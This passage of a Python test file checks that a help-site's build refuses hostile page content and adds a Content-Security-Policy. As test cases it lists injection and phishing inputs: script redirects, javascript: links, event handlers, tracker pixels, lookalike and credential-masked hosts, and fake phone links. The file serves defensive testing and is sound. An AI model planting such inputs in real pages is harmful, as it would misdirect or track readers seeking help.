        ("[call](tel:+37090012345)", "[call](tel:+37090012345)"),
        ("[x](javascript:alert(1))", "[x](javascript:alert(1))"),
        ("[x](http://example.org/)", "[x](http://example.org/)"),
        ("![t](https://tracker.example/p.gif)", '!<a href="https://tracker.example/p.gif">t</a>'),  # a link at most, never an image
        ("[ok](https://example.org/)", '<a href="https://example.org/">ok</a>'),
        ("[page](../peer-support/)", '<a href="../peer-support/">page</a>'),
    ],
)
def test_the_data_markdown_renderer_links_only_to_https_mailto_and_the_site(markdown, html):
    assert render.inline_markdown(markdown) == html


# --- every built page: the policy behind the check, and the Content-Security-Policy ---------------------

PAGE = """<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<link rel="stylesheet" href="../assets/stylesheets/main.css">
<link rel="canonical" href="https://site.example/get-help-now/">
<script>__md_scope=new URL("..",location)</script>
<script id="__config" type="application/json">{"base": ".."}</script>
</head>
<body>
<form class="md-search__form" name="search"><input name="query"></form>
<article>
CONTENT
</article>
<script src="../assets/javascripts/bundle.js"></script>
</body>
</html>
"""

HTML_ATTACKS = [
    (
        "built-script",
        "A script in a page's content (from any route past the check)",
        '<script>location.replace("https://phish.example/help")</script>',
        ["13: <script> is not allowed in page content"],
    ),
    ("built-handler", "An event-handler attribute", '<p onmouseover="alert(1)">x</p>', ["13: <p onmouseover=…>: event-handler attributes are not allowed"]),
    ("built-javascript-link", "A javascript: link", '<a href="javascript:alert(1)">x</a>', ["13: <a href=…>: 'javascript:' addresses are not allowed"]),
    ("built-data-image", "A data: image", '<img alt="" src="data:image/png;base64,AAAA">', ["13: <img src=…>: 'data:' addresses are not allowed"]),
    (
        "built-tracking-srcset",
        "A tracking image in srcset",
        '<img alt="" srcset="a.png 1x, https://tracker.example/p.gif 2x">',
        ["13: <img srcset=…>: 'https://tracker.example/p.gif' would load from another host"],
    ),
    (
        "built-style-url",
        "A style attribute loading from a tracker",
        '<p style="background:url(https://tracker.example/h)">x</p>',
        ["13: <p style=…>: CSS url(): 'https://tracker.example/h' would load from another host"],
    ),
    (
        "built-style-block",
        "A <style> block in the content",
        "<style>a:hover{background:url('https://tracker.example/h')}</style>",
        ["13: <style> is not allowed in page content", "13: <style>: CSS url(): 'https://tracker.example/h' would load from another host"],
    ),
    ("built-iframe", "An iframe", '<iframe src="https://ads.example/"></iframe>', ["13: <iframe> is not allowed in page content"]),
    ("built-object", "An embedded object", '<object data="https://x.example/a.swf"></object>', ["13: <object> is not allowed in page content"]),
    ("built-base", "A <base> that sends every relative link elsewhere", '<base href="https://phish.example/">', ["13: <base> is not allowed in page content"]),
    ("built-form", "A form in the content", '<form action="https://phish.example/"><p>x</p></form>', ["13: <form> is not allowed in page content"]),
    (
        "built-meta-refresh",
        "A meta refresh in the content",
        '<meta http-equiv="refresh" content="0;url=https://phish.example/">',
        ["13: <meta> is not allowed in page content"],
    ),
    (
        "built-svg",
        "Inline SVG in the content (it can carry scripts and links)",
        '<svg><a href="https://x.example/"><text>x</text></a></svg>',
        ["13: <svg> is not allowed in page content"],
    ),
    (
        "built-tel",
        "A tel: link to a number that is not a validated helpline",
        '<a href="tel:+37090012345">0 800 28888</a>',
        ["13: <a href=…>: 'tel:+37090012345' is not the number of a helpline in data/helplines.yml"],
    ),
    (
        "built-credentials",
        "A link with a user name hiding the real host",
        '<a href="https://www.samaritans.org@phish.example/">x</a>',
        ["13: <a href=…>: 'https://www.samaritans.org@phish.example/' has a user name or password in its address (it may lead somewhere else than it shows)"],
    ),
    (
        "built-lookalike",
        "A link to a host with a Cyrillic letter",
        '<a href="https://www.s\u0430maritans.org/">x</a>',
        ["13: <a href=…>: 'https://www.s\u0430maritans.org/' has a host with non-ASCII letters (it may imitate another site's name)"],
    ),
    (
        "built-http",
        "A plain http: link",
        '<a href="http://example.org/">x</a>',
        ["13: <a href=…>: 'http://example.org/' is not an https: address (links go only to https:, mailto: and the site's own pages)"],
    ),
    (
        "built-protocol-relative",
        "A protocol-relative image from another host",
        '<img alt="" src="//tracker.example/p.gif">',
        ["13: <img src=…>: '//tracker.example/p.gif' would load from another host"],
    ),
]
HINTS = {
    "event-handler": "remove the attribute; pages run no script of their own",
    "not allowed in page content": "pages show text, links and images of this site; remove it",
    "style": "remove the style; the site's stylesheet sets the look",
    "<style>": "remove it; the site's stylesheet sets the look",
}


def _hint(message: str) -> str:
    if "event-handler" in message:
        return HINTS["event-handler"]
    if message.startswith("<style>:"):
        return HINTS["<style>"]
    if "style=" in message:
        return HINTS["style"]
    if "is not allowed in page content" in message:
        return HINTS["not allowed in page content"]
    return "link to https: pages, the site's own pages or files, or mailto:; numbers to call come from the helplines macro"


@pytest.mark.parametrize(("id_", "what", "content", "refused_with"), HTML_ATTACKS, ids=[a[0] for a in HTML_ATTACKS])
def test_every_build_refuses_it_in_the_built_page(id_, what, content, refused_with):
    html = PAGE.replace("CONTENT", content)
    problems, _ = htmlpolicy.check_built(html, "docs/x.md (built as x/index.html)", content, {"116123"}, "https://site.example/")
    expected = []
    for item in refused_with:
        line, _, message = item.partition(": ")
        expected.append(str(Problem("docs/x.md (built as x/index.html)", int(line), message, hint=_hint(message))))
    assert [str(p) for p in problems] == expected


def test_the_theme_keeps_its_scripts_and_search_form_and_the_page_passes():
    content = '<p>Call <a href="tel:116123">116 123</a> or read <a href="https://www.who.int/">WHO</a>.</p>'
    html = PAGE.replace("CONTENT", content)
    problems, inline = htmlpolicy.check_built(html, "docs/x.md", content, {"116123"}, "https://site.example/")
    assert problems == []
    assert inline == ['__md_scope=new URL("..",location)']


def test_the_page_gets_a_content_security_policy_first_in_its_head():
    html = htmlpolicy.with_csp(PAGE.replace("CONTENT", ""), ['__md_scope=new URL("..",location)'])
    head = html.split("<head>", 1)[1]
    assert head.lstrip().startswith(
        "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'self'; script-src 'self' 'wasm-unsafe-eval' "
        "'sha256-" + htmlpolicy.script_hash('__md_scope=new URL("..",location)')[8:] + "; style-src 'self'; img-src 'self' data:; "
        "font-src 'self'; connect-src 'self'; worker-src 'self'; object-src 'none'; frame-src 'none'; base-uri 'self'; form-action 'self'\">"
    )


def test_a_script_hash_is_the_base64_sha256_of_its_text():
    assert htmlpolicy.script_hash("alert(1)") == "'sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI='"


# --- the contributor page lists every hostile input -----------------------------------------------------

GUIDE = ROOT / "docs" / "contribute" / "protecting-readers.md"
START, END = "<!-- hostile-inputs:start -->", "<!-- hostile-inputs:end -->"


def _text(words: str) -> str:
    """A description as Markdown text: tags it names are shown, not made."""
    return words.replace("<", "&lt;").replace(">", "&gt;")


def table() -> str:
    """The table the contributor page shows between its markers: every hostile input and what refuses it."""
    rows = ["| Hostile input | Where | Refused with |", "|---|---|---|"]
    for attack in ATTACKS:
        messages = "<br>".join(f"`{m}`" for m in attack.refused_with)
        rows.append(f"| {_text(attack.what)} | `{attack.change[1]}` (kb check) | {messages} |")
    for _id, what, _content, refused_with in HTML_ATTACKS:
        messages = "<br>".join(f"`{m.partition(': ')[2]}`" for m in refused_with)
        rows.append(f"| {_text(what)} | a built page (every build) | {messages} |")
    return "\n".join(rows)


def test_the_contributor_page_lists_every_hostile_input():
    text = GUIDE.read_text(encoding="utf-8")
    shown = text.split(START, 1)[1].split(END, 1)[0].strip()
    assert shown == "{% raw %}\n" + table() + "\n{% endraw %}", "update the table: python3 tests/unit/test_protection.py"


if __name__ == "__main__":
    print("{% raw %}\n" + table() + "\n{% endraw %}")
